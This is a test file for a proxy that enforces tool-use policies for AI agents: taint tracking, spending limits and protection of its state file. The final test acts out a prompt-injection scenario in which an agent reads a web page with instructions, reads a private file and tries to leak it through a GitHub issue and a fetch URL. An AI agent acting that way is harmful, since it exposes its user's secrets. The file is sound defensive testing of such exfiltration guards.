/** Flows and limits over several proxies, through the program as clients start it. */

import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { readRecords, recordingServer, runProgram, Scratch } from "./support/program.ts";

const clientProgram = fileURLToPath(new URL("./fixtures/proxy_client.ts", import.meta.url));

/** A client process that starts proxies as its own children. */
class Client implements AsyncDisposable {
  readonly #process: Deno.ChildProcess;
  readonly #writer: WritableStreamDefaultWriter<Uint8Array>;
  readonly #reader: ReadableStreamDefaultReader<string>;
  #text = "";

  constructor() {
    this.#process = new Deno.Command(Deno.execPath(), {
      args: ["run", "-A", "--quiet", "--no-prompt", clientProgram],
      stdin: "piped",
      stdout: "piped",
      stderr: "inherit",
    }).spawn();
    this.#writer = this.#process.stdin.getWriter();
    this.#reader = this.#process.stdout.pipeThrough(new TextDecoderStream()).getReader();
  }

  async order(what: object): Promise<string> {
    await this.#writer.write(new TextEncoder().encode(JSON.stringify(what) + "\n"));
    for (;;) {
      const end = this.#text.indexOf("\n");
      if (end >= 0) {
        const line = this.#text.slice(0, end);
        this.#text = this.#text.slice(end + 1);
        return line;
      }
      const { done, value } = await this.#reader.read();
      if (done) throw new Error("the client has ended");
      this.#text += value;
    }
  }

  start(name: string, scratch: Scratch, ...options: readonly string[]): Promise<string> {
    const server = ["node", recordingServer, scratch.file(`server-${crypto.randomUUID()}`)];
    return this.order({ start: name, args: ["run", ...options, "--", ...server] });
  }

  call(name: string, tool: string, args: object = {}): Promise<string> {
    return this.order({ call: name, tool, arguments: args });
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#writer.close();
    await this.#reader.cancel();
    await this.#process.status;
  }
}

const trifecta = `version: 1
rules:
  - { id: notes, allow: echo, args: { from: notes }, taint: private }
  - { id: page, allow: echo, args: { from: web }, taint: untrusted }
  - { id: mail, allow: sample }
  - { id: out, deny: sample, if_tainted: [private, untrusted] }
`;

Deno.test("two proxies of one client share what they have seen, and the proxy of another client does not", async () => {
  await using scratch = await Scratch.make();
  const policy = await scratch.write("policy.yaml", trifecta);
  const options = ["-p", policy, "--state", scratch.file("state")];
  await using one = new Client();
  await using other = new Client();
  await one.start("notes", scratch, ...options);
  await one.start("web", scratch, ...options);
  await other.start("mail", scratch, ...options);
  assert.equal(await one.call("notes", "echo", { from: "notes" }), "ok");
  assert.equal(await one.call("web", "silent"), "default");
  assert.equal(await one.call("web", "echo", { from: "web" }), "ok");
  for (const proxy of ["notes", "web"]) assert.equal(await one.call(proxy, "sample"), "taint");
  assert.equal(await other.call("mail", "echo", { from: "web" }), "ok");
  assert.equal(await other.call("mail", "echo", { from: "web" }), "ok");
  // Also a proxy that this client starts only now.
  await one.start("late", scratch, ...options);
  assert.equal(await one.call("late", "sample"), "taint");
});

Deno.test("without --state each proxy follows its own flows alone", async () => {
  await using scratch = await Scratch.make();
  const policy = await scratch.write("policy.yaml", trifecta.replace("[private, untrusted]", "[private]"));
  await using client = new Client();
  await client.start("a", scratch, "-p", policy);
  await client.start("b", scratch, "-p", policy);
  assert.equal(await client.call("a", "echo", { from: "notes" }), "ok");
  assert.equal(await client.call("b", "echo", { from: "web" }), "ok");
  await client.order({ stop: "b" });
});

const pay = `version: 1
name: payments
rules:
  - allow: echo
  - { id: session, limit: echo, to: { calls: 3, per: session } }
  - { id: purse, limit: echo, to: { sum: amount, max: 1, per: day } }
`;

Deno.test("a session's calls are counted over all proxies of a client, a day's sum over all clients and restarts", async () => {
  await using scratch = await Scratch.make();
  const policy = await scratch.write("policy.yaml", pay);
  const audit = scratch.file("audit.jsonl");
  const options = ["-p", policy, "--state", scratch.file("state")];
  {
    await using client = new Client();
    await client.start("a", scratch, ...options, "--audit", audit);
    await client.start("b", scratch, ...options);
    assert.equal(await client.call("a", "echo", { amount: 0.1 }), "ok");
    assert.equal(await client.call("b", "echo", { amount: 0.2 }), "ok");
    assert.equal(await client.call("b", "echo", { amount: "0.1" }), "limit");
    assert.equal(await client.call("a", "echo", {}), "limit");
    assert.equal(await client.call("a", "echo", { amount: 0.3 }), "ok");
    assert.equal(await client.call("b", "echo", { amount: 0 }), "limit"); // the fourth of the session
  }
  {
    await using client = new Client();
    await client.start("a", scratch, ...options);
    assert.equal(await client.call("a", "echo", { amount: 0.5 }), "limit");
    assert.equal(await client.call("a", "echo", { amount: 0.4 }), "ok");
    assert.equal(await client.call("a", "echo", { amount: 1e-30 }), "limit");
  }
  const records = (await readRecords(audit)).filter(({ kind, target }) =>
    kind === "decision" && target === "tool"
  );
  const day = new Date().toISOString().slice(0, 10);
  assert.deepEqual(
    records.map(({ uses }) => uses?.map(({ rule, amount }: Record<string, string>) => `${rule} ${amount}`)),
    [
      ["session 1", "purse 0.1"],
      undefined,
      ["session 1", "purse 0.3"],
    ],
  );
  const { used } = records[2].shared;
  assert.deepEqual(used.map((one: Record<string, string>) => [one.rule, one.used]), [["session", "2"], [
    "purse",
    "0.3",
  ]]);
  // (A test that runs at midnight sees the day change.)
  assert.ok([day, new Date().toISOString().slice(0, 10)].includes(used[1].window));
});

Deno.test("a policy that counts per day is refused without a state, before anything is started", async () => {
  await using scratch = await Scratch.make();
  const policy = await scratch.write("policy.yaml", pay);
  const { code, stderr } = await runProgram([
    "run",
    "-p",
    policy,
    "--",
    "node",
    recordingServer,
    scratch.file("seen"),
  ]);
  assert.equal(code, 3);
  assert.match(stderr, /rule "purse" of policy/);
  assert.match(stderr, /limits per day, and without a state nothing is counted beyond this process/);
  assert.match(stderr, /--state FILE/);
});

Deno.test("a state file that is damaged refuses the start, and later closes what depends on it", async () => {
  await using scratch = await Scratch.make();
  const policy = await scratch.write("policy.yaml", `${pay}  - allow: silent\n  - allow: sample\n`);
  const state = await scratch.write("state", "something else");
  const args = ["run", "-p", policy, "--state", state, "--", "node", recordingServer, scratch.file("seen")];
  const { code, stderr } = await runProgram(args);
  assert.equal(code, 3);
  assert.match(stderr, /Cannot use state file ".*": it is damaged, or no state file/);
  await Deno.remove(state);
  await using client = new Client();
  await client.start("a", scratch, "-p", policy, "--state", state);
  assert.equal(await client.call("a", "echo", { amount: 0.1 }), "ok");
  await Deno.writeTextFile(state, "something else");
  assert.equal(await client.call("a", "echo", { amount: 0.1 }), "error");
  assert.equal(await client.call("a", "sample"), "ok"); // no limit is about it
});

Deno.test("no call may name the state file", async () => {
  await using scratch = await Scratch.make();
  const policy = await scratch.write("policy.yaml", "version: 1\ndefault: allow\n");
  await using client = new Client();
  await client.start("a", scratch, "-p", policy, "--state", scratch.file("state"));
  assert.equal(await client.call("a", "echo", { path: scratch.file("state") }), "own_file");
});

Deno.test("the ready policy against the lethal trifecta stops a stolen secret on its way out", async () => {
  await using scratch = await Scratch.make();
  const policy = new URL("../../policies/lethal-trifecta.yaml", import.meta.url).pathname;
  const root = scratch.path;
  await scratch.write("plan.txt", "the plan");
  await using client = new Client();
  const options = [
    "-p",
    policy,
    "--var",
    `root=${root}`,
    "--state",
    `${root}/../lilith-state-${crypto.randomUUID()}`,
  ];
  await client.start("files", scratch, ...options);
  await client.start("fetch", scratch, ...options);
  await client.start("github", scratch, ...options);
  // The agent reads a page with instructions in it, follows them as far as the file, and has no way to send it.
  assert.equal(await client.call("fetch", "fetch", { url: "https://example.org/recipe" }), "ok");
  assert.equal(await client.call("github", "create_issue", { title: "hello" }), "ok");
  assert.equal(await client.call("files", "read_text_file", { path: `${root}/plan.txt` }), "ok");
  assert.equal(await client.call("github", "create_issue", { title: "the plan" }), "taint");
  assert.equal(await client.call("fetch", "fetch", { url: "https://example.org/?the-plan" }), "taint");
  assert.equal(await client.call("files", "read_text_file", { path: `${root}/plan.txt` }), "ok");
  await Deno.remove(options.at(-1)!);
});
